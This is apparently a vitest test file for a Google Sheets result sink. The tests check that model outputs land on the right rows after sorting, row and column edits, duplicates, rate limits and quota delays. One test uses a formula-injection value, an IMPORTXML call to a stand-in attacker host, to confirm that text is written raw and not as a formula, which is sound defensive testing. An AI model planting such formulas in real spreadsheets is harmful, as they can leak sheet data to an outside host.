// Flushing results by row id through the real client: rows that moved, vanished or were copied, 429s, RAW text, spacing.
import { afterEach, describe, expect, it } from 'vitest';
import { RateLimitError } from '../../../../backend/src/kernel/errors.js';
import type { Row } from '../../../../backend/src/ports/domain.js';
import type { ResultSink } from '../../../../backend/src/ports/sheet.js';
import type { Workbook } from '../../../../local/sheets/workbook.js';
import { GoogleSheetsGateway, InProcessSheetsQuota } from '../../../../backend/src/adapters/google-sheets/index.js';
import { BRANDS, harness, job, row, sequentialIds, SERVICE_ACCOUNT, type Harness } from './fixtures.js';

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

const OUTPUTS = ['Category', 'Founded'];

/** A sheet of six brands with `range` prepared as a job (by default all six: ids r1..r6 on rows 2..7), and a sink for it. */
async function prepared(range = '2:7'): Promise<{ h: Harness; workbook: Workbook; sink: ResultSink; idOf: Map<string, string> }> {
  h = await harness({}, { idFactory: sequentialIds() });
  const sheet = h.standIn.createSpreadsheet({ title: 'Brands', rows: BRANDS, sharedWith: [SERVICE_ACCOUNT] });
  const ref = { spreadsheetId: sheet.id, sheetId: 0 };
  const rows = await h.gateway.prepareRows({ ref, ranges: [range], headerRow: 1, inputs: ['Brand'], outputs: OUTPUTS, maxRows: 100 });
  const idOf = new Map(rows.rows.map((r) => [r.inputs.Brand ?? '', r.rowId]));
  h.time.advance(5_000);
  h.standIn.resetLog();
  return { h, workbook: h.standIn.workbook(sheet.id), sink: h.gateway.sink(ref, OUTPUTS), idOf };
}

function doneRow(id: string, brand: string): Row {
  return row(id, 'done', { Category: `category of ${brand}`, Founded: brand.length });
}

/** Every data row of the sheet as brand → [Category, Founded, status], wherever the rows are now. */
function resultsByBrand(workbook: Workbook): Record<string, unknown[]> {
  const header = workbook.values('A1:Z1')[0]!;
  const col = (name: string) => header.indexOf(name);
  const out: Record<string, unknown[]> = {};
  for (const line of workbook.values('A2:Z20')) {
    const brand = line[col('Brand')];
    if (typeof brand === 'string') out[brand] = [line[col('Category')], line[col('Founded')], line[col('rowfill_status')]];
  }
  return out;
}

/** The user sorts the tab by brand while the next write is on its way: the positions the sink read are stale when it lands. */
function sortUnderNextWrite(h: Harness, workbook: Workbook, descending: boolean): void {
  const values = h.sheets.spreadsheets.values;
  const batchUpdate = values.batchUpdate.bind(values) as (...args: unknown[]) => Promise<unknown>;
  (values as unknown as { batchUpdate: unknown }).batchUpdate = (...args: unknown[]) => {
    (values as unknown as { batchUpdate: unknown }).batchUpdate = batchUpdate;
    workbook.sortRange(0, { startRow: 1 }, [{ column: 0, descending }]);
    return batchUpdate(...args);
  };
}

describe('GoogleSheetsResultSink.flush', () => {
  it('writes every row on its own row after the tab is sorted, rows are inserted above and a row is deleted', async () => {
    const { h, workbook, sink, idOf } = await prepared();
    workbook.sortRange(0, { startRow: 1 }, [{ column: 0, descending: true }]);
    workbook.insertDimension(0, 'ROWS', 1, 3);
    const hooliRow = workbook.values('A1:A20').findIndex((r) => r[0] === 'Hooli');
    workbook.deleteDimension(0, 'ROWS', hooliRow, hooliRow + 1);
    const rows = [...idOf].map(([brand, id]) => doneRow(id, brand));
    const result = await sink.flush(job(), rows);
    expect(result.missing).toEqual([idOf.get('Hooli')]);
    expect(result.duplicated).toEqual([]);
    expect([...result.written].sort()).toEqual([...idOf].filter(([b]) => b !== 'Hooli').map(([, id]) => id).sort());
    expect(resultsByBrand(workbook)).toEqual({
      Umbrella: ['category of Umbrella', 8, 'done'],
      Stark: ['category of Stark', 5, 'done'],
      Initech: ['category of Initech', 7, 'done'],
      Globex: ['category of Globex', 6, 'done'],
      Acme: ['category of Acme', 4, 'done'],
    });
    expect(h.standIn.writeLog).toHaveLength(1);
    // The first flush finds the tagged columns, reads the id column, and writes; the write answers the id column as it
    // is after the write, which confirms nothing moved under it.
    expect(h.standIn.requestLog.map((e) => e.path.split(':').pop())).toEqual(['search', 'batchGetByDataFilter', 'batchUpdate']);
  });

  it('costs one read and one write per flush once the columns are known, and still finds rows sorted in between', async () => {
    const { h, workbook, sink, idOf } = await prepared();
    await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
    h.standIn.resetLog();
    workbook.sortRange(0, { startRow: 1 }, [{ column: 0, descending: true }]);
    h.time.advance(3000);
    const result = await sink.flush(job(), [doneRow(idOf.get('Globex')!, 'Globex'), doneRow(idOf.get('Stark')!, 'Stark')]);
    expect(result).toMatchObject({ resync: false });
    expect(h.standIn.requestLog.map((e) => `${e.kind} ${e.path.split(':').pop()}`)).toEqual(['read batchGetByDataFilter', 'write batchUpdate']);
    expect(resultsByBrand(workbook)).toMatchObject({ Globex: ['category of Globex', 6, 'done'], Stark: ['category of Stark', 5, 'done'], Acme: ['category of Acme', 4, 'done'] });
  });

  it('asks for a rewrite when a sort lands between reading positions and the write, seen in the write\'s own answer', async () => {
    const { h, workbook, sink, idOf } = await prepared();
    sortUnderNextWrite(h, workbook, true);
    const result = await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
    expect(result).toMatchObject({ written: [idOf.get('Acme')], resync: true });
    // The search, the id read, the write, and one more write blanking what landed on the wrong row.
    expect(h.standIn.requestLog.map((e) => e.path.split(':').pop())).toEqual(['search', 'batchGetByDataFilter', 'batchUpdate', 'batchUpdate']);
  });

  it('blanks what a write left on a row outside the job when a sort landed under it, so no row shows another row\'s answer', async () => {
    // Only Acme and Globex are in the job: the other four rows have no id and must keep empty Rowfill cells.
    const { h, workbook, sink, idOf } = await prepared('2:3');
    sortUnderNextWrite(h, workbook, true);
    const flushed = await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme'), doneRow(idOf.get('Globex')!, 'Globex')]);
    expect(flushed.resync).toBe(true);
    const results = resultsByBrand(workbook);
    // Descending, Umbrella and Stark now sit where Acme and Globex were: the answers meant for those two are not on them.
    for (const brand of ['Umbrella', 'Stark', 'Initech', 'Hooli']) expect(results[brand]?.map((cell) => cell ?? '')).toEqual(['', '', '']);

    h.time.advance(5_000);
    sortUnderNextWrite(h, workbook, false);
    await sink.markStatus!(job(), [idOf.get('Acme')!, idOf.get('Globex')!], 'queued');
    for (const [brand, cells] of Object.entries(resultsByBrand(workbook))) {
      if (brand !== 'Acme' && brand !== 'Globex') expect(cells[2] ?? '').toBe('');
    }
  });

  it('searches the columns again when the id column moved (a column inserted at the left), before writing', async () => {
    const { h, workbook, sink, idOf } = await prepared();
    await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
    // A column inserted at the left moves every column, the id column too: caught before the write.
    workbook.insertDimension(0, 'COLUMNS', 0, 1);
    h.standIn.resetLog();
    h.time.advance(3000);
    const moved = await sink.flush(job(), [doneRow(idOf.get('Globex')!, 'Globex')]);
    expect(moved).toMatchObject({ written: [idOf.get('Globex')], resync: false });
    expect(h.standIn.requestLog.map((e) => e.path.split(':').pop())).toEqual(['batchGetByDataFilter', 'search', 'batchGetByDataFilter', 'batchUpdate']);
    expect(workbook.values('E3:G3')).toEqual([['category of Globex', 6, 'done']]);
  });

  it('finds its columns by their tags after columns are inserted before them and the tab is renamed', async () => {
    const { workbook, sink, idOf } = await prepared();
    workbook.insertDimension(0, 'COLUMNS', 1, 4);
    workbook.tab(0).title = "Brands' 2025";
    await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
    expect(workbook.values("'Brands'' 2025'!A2:L2")).toEqual([['Acme', undefined, undefined, undefined, 'acme.test', 'US', 'category of Acme', 4, 'done', undefined, 0, idOf.get('Acme')]]);
  });

  it('writes a copied row (an id found twice) to neither place and reports it', async () => {
    const { workbook, sink, idOf } = await prepared();
    const acme = workbook.values('A2:I2')[0]!.map((v) => v ?? null);
    workbook.setValues('A9', [acme]);
    const result = await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme'), doneRow(idOf.get('Globex')!, 'Globex')]);
    expect(result).toEqual({ written: [idOf.get('Globex')], missing: [], duplicated: [idOf.get('Acme')], resync: false });
    expect(workbook.values('D2:F2')).toEqual([[undefined, undefined, 'queued']]);
    expect(workbook.values('D9:F9')).toEqual([[undefined, undefined, 'queued']]);
    expect(workbook.values('D3:F3')).toEqual([['category of Globex', 6, 'done']]);
  });

  it('turns a 429 into RateLimitError, holds writes back, and writes everything once the quota allows', async () => {
    const { h, workbook, sink, idOf } = await prepared();
    h.standIn.configure({ writesPerMinute: 2 });
    const rows = [...idOf].map(([brand, id]) => doneRow(id, brand));
    const first = await sink.flush(job(), rows).catch((e: unknown) => e);
    expect(first).toBeInstanceOf(RateLimitError);
    expect(first).toMatchObject({ errorClass: 'rate_limit', retryAfterMs: 1000, status: 429 });
    expect(h.standIn.writeLog.map((e) => e.status)).toEqual([429]);
    // While the backoff runs, a flush fails at once without another request.
    const second = await sink.flush(job(), rows).catch((e: unknown) => e);
    expect(second).toBeInstanceOf(RateLimitError);
    expect(h.standIn.writeLog).toHaveLength(1);
    expect(Object.values(resultsByBrand(workbook)).map((r) => r[2])).toEqual(Array(6).fill('queued'));
    h.time.advance(61_000);
    const result = await sink.flush(job(), rows);
    expect(result.written).toHaveLength(6);
    expect(Object.values(resultsByBrand(workbook)).map((r) => r[2])).toEqual(Array(6).fill('done'));
    expect(h.standIn.writeLog.map((e) => e.status)).toEqual([429, 200]);
  });

  it('finds an output column dragged past another at its next column search, and asks for every finished row again', async () => {
    const { h, workbook, sink, idOf } = await prepared();
    await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
    // The user drags Founded (E) before Category (D): values and tags move with the columns, the id column stays put.
    const tags = workbook.metadata.list().filter((e) => e.key === 'rowfill.column' && (e.value === 'output:Category' || e.value === 'output:Founded'));
    workbook.deleteMetadata(tags.map((e) => e.id));
    for (const e of tags) {
      const index = e.value === 'output:Category' ? 4 : 3;
      workbook.createMetadata({ key: e.key, value: e.value, visibility: e.visibility, location: { kind: 'column', sheetId: 0, index } });
    }
    const swapped = workbook.values('D1:E7').map(([category, founded]) => [founded ?? null, category ?? null]);
    workbook.setValues('D1', swapped);
    h.time.advance(61_000);
    const result = await sink.flush(job(), [doneRow(idOf.get('Globex')!, 'Globex')]);
    expect(result).toMatchObject({ written: [idOf.get('Globex')], resync: true });
    await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme'), doneRow(idOf.get('Globex')!, 'Globex')]);
    expect(workbook.values('D1:F3')).toEqual([
      ['Founded', 'Category', 'rowfill_status'],
      [4, 'category of Acme', 'done'],
      [6, 'category of Globex', 'done'],
    ]);
  });

  it('sends nothing while the Sheets quota has no token, and writes every row carried over once it has', async () => {
    h = await harness({}, { idFactory: sequentialIds() });
    const time = h.time;
    const quota = new InProcessSheetsQuota({ readsPerMinute: 6, writesPerMinute: 3, interactiveReserve: 0, clock: time.clock });
    const gateway = new GoogleSheetsGateway({ sheets: h.sheets, serviceAccountEmail: SERVICE_ACCOUNT, clock: time.clock, idFactory: sequentialIds(), quota });
    const sheet = h.standIn.createSpreadsheet({ title: 'Brands', rows: BRANDS, sharedWith: [SERVICE_ACCOUNT] });
    const ref = { spreadsheetId: sheet.id, sheetId: 0 };
    // The job start is a person's request: it waits for the quota rather than fail (3 reads, then 2 writes).
    const prepared = await gateway.prepareRows({ ref, ranges: ['2:7'], headerRow: 1, inputs: ['Brand'], outputs: OUTPUTS, maxRows: 100 });
    const idOf = new Map(prepared.rows.map((r) => [r.inputs.Brand ?? '', r.rowId]));
    const sink = gateway.sink(ref, OUTPUTS);
    h.standIn.resetLog();
    const first = await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
    expect(first).toMatchObject({ written: [], deferred: { retryAfterMs: expect.any(Number) as number } });
    expect(h.standIn.requestLog).toEqual([]);
    time.advance(70_000);
    const rows = [...idOf].map(([brand, id]) => doneRow(id, brand));
    const later = await sink.flush(job(), rows);
    expect(later.written).toHaveLength(6);
    expect(Object.values(resultsByBrand(h.standIn.workbook(sheet.id))).map((r) => r[2])).toEqual(Array(6).fill('done'));
  });

  it('writes model text RAW, never as a formula, typed numbers and booleans, and cuts cells over 50,000 characters', async () => {
    const { workbook, sink, idOf } = await prepared();
    const formula = '=IMPORTXML("http://attacker.test/x","//a")';
    await sink.flush(job(), [
      row(idOf.get('Acme')!, 'done', { Category: formula, Founded: 1999 }),
      row(idOf.get('Globex')!, 'done', { Category: 'x'.repeat(60_000), Founded: null }),
    ]);
    expect(workbook.cell('D2')).toBe(formula);
    expect(workbook.cell('E2')).toBe(1999);
    const cut = workbook.cell('D3') as string;
    expect(cut).toHaveLength(50_000);
    expect(cut.endsWith('…[cut]')).toBe(true);
    expect(workbook.cell('E3')).toBeUndefined();
  });

  it('writes numbers and booleans as typed cells that read back as Sheets shows them (1999, TRUE), not as text', async () => {
    const { h, workbook, sink, idOf } = await prepared();
    await sink.flush(job(), [row(idOf.get('Acme')!, 'done', { Category: true, Founded: 1999.5 }), row(idOf.get('Globex')!, 'done', { Category: false, Founded: 0 })]);
    expect([workbook.cell('D2'), workbook.cell('E2'), workbook.cell('D3'), workbook.cell('E3')]).toEqual([true, 1999.5, false, 0]);
    const read = (valueRenderOption: string) => h.sheets.spreadsheets.values.get({ spreadsheetId: workbook.id, range: 'D2:E3', valueRenderOption }).then((r) => r.data.values);
    expect(await read('FORMATTED_VALUE')).toEqual([['TRUE', '1999.5'], ['FALSE', '0']]);
    expect(await read('UNFORMATTED_VALUE')).toEqual([[true, 1999.5], [false, 0]]);
  });

  it("writes each row's error and cost after its status: the message of a failed row, USD as a number cell", async () => {
    const { workbook, sink, idOf } = await prepared();
    workbook.setValues('G4', [['old error']]);
    await sink.flush(job(), [
      row(idOf.get('Acme')!, 'done', { Category: 'a', Founded: 1 }, { costUsd: 0.000123456789 }),
      row(idOf.get('Globex')!, 'failed', null, { errorClass: 'timeout', errorMessage: 'no answer within 60 s', costUsd: 0.0002 }),
      row(idOf.get('Initech')!, 'done', { Category: 'b', Founded: 2 }, { cached: true }),
    ]);
    expect(workbook.values('F1:H4')).toEqual([
      ['rowfill_status', 'rowfill_error', 'rowfill_cost_usd'],
      ['done', undefined, 0.000123],
      ['failed: timeout', 'no answer within 60 s', 0.0002],
      ['done (cached)', undefined, 0],
    ]);
  });

  it('writes each status text, keeps earlier outputs of a failed row, and shows paused rows via markStatus', async () => {
    const { workbook, sink, idOf } = await prepared();
    workbook.setValues('D4', [['old category', 1900]]);
    await sink.flush(job(), [
      row(idOf.get('Acme')!, 'done', { Category: 'a', Founded: 1 }, { cached: true }),
      row(idOf.get('Globex')!, 'skipped', { Category: 'kept', Founded: 2 }),
      row(idOf.get('Initech')!, 'failed', null, { errorClass: 'content_filter' }),
      row(idOf.get('Umbrella')!, 'cancelled', null),
    ]);
    expect(workbook.values('D2:F5')).toEqual([
      ['a', 1, 'done (cached)'],
      ['kept', 2, 'skipped (unchanged)'],
      ['old category', 1900, 'failed: content_filter'],
      [undefined, undefined, 'cancelled'],
    ]);
    await sink.markStatus!(job({ status: 'paused', pauseReason: 'budget' }), [idOf.get('Hooli')!, idOf.get('Stark')!, 'unknown-id'], 'paused: budget');
    expect(workbook.values('F6:F7').flat()).toEqual(['paused: budget', 'paused: budget']);
  });

  it('spaces writes to one spreadsheet at least a second apart', async () => {
    const { h, sink, idOf } = await prepared();
    await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
    const before = h.time.sleeps.length;
    await sink.flush(job(), [doneRow(idOf.get('Globex')!, 'Globex')]);
    expect(h.time.sleeps.slice(before)).toEqual([1000]);
    const at = h.standIn.writeLog.map((e) => e.at);
    expect(at[1]! - at[0]!).toBeGreaterThanOrEqual(1000);
  });

  it('reports every row missing when the id column was deleted, and sends nothing for no rows', async () => {
    const { h, workbook, sink, idOf } = await prepared();
    await expect(sink.flush(job(), [])).resolves.toEqual({ written: [], missing: [], duplicated: [] });
    expect(h.standIn.requestLog).toEqual([]);
    workbook.deleteDimension(0, 'COLUMNS', 8, 9);
    const result = await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
    expect(result).toEqual({ written: [], missing: [idOf.get('Acme')], duplicated: [] });
    expect(h.standIn.writeLog).toEqual([]);
  });

  it('surfaces losing access mid-job as an auth error for the engine to pause on', async () => {
    const { workbook, sink, idOf } = await prepared();
    workbook.access.delete(SERVICE_ACCOUNT);
    await expect(sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')])).rejects.toMatchObject({ errorClass: 'auth', status: 403 });
  });

  it('keeps one write under ~2 MB of values, leaving the rest unflushed for the next tick', async () => {
    h = await harness({}, { idFactory: sequentialIds() });
    const brands = Array.from({ length: 50 }, (_, i) => [`Brand ${i}`]);
    const sheet = h.standIn.createSpreadsheet({ title: 'Big', rows: [['Brand'], ...brands], sharedWith: [SERVICE_ACCOUNT] });
    const ref = { spreadsheetId: sheet.id, sheetId: 0 };
    const prepared = await h.gateway.prepareRows({ ref, ranges: ['2:51'], headerRow: 1, inputs: ['Brand'], outputs: ['Category'], maxRows: 100 });
    const sink = h.gateway.sink(ref, ['Category']);
    const rows = prepared.rows.map((r) => row(r.rowId, 'done', { Category: 'x'.repeat(50_000) }));
    const first = await sink.flush(job(), rows);
    expect(first.written.length).toBeGreaterThan(30);
    expect(first.written.length).toBeLessThan(50);
    const rest = rows.filter((r) => !first.written.includes(r.rowId));
    const second = await sink.flush(job(), rest);
    expect(second.written).toHaveLength(rest.length);
    expect(h.standIn.workbook(sheet.id).values('B2:C51').every((r) => r[1] === 'done' && (r[0] as string).length === 50_000)).toBe(true);
  });
});
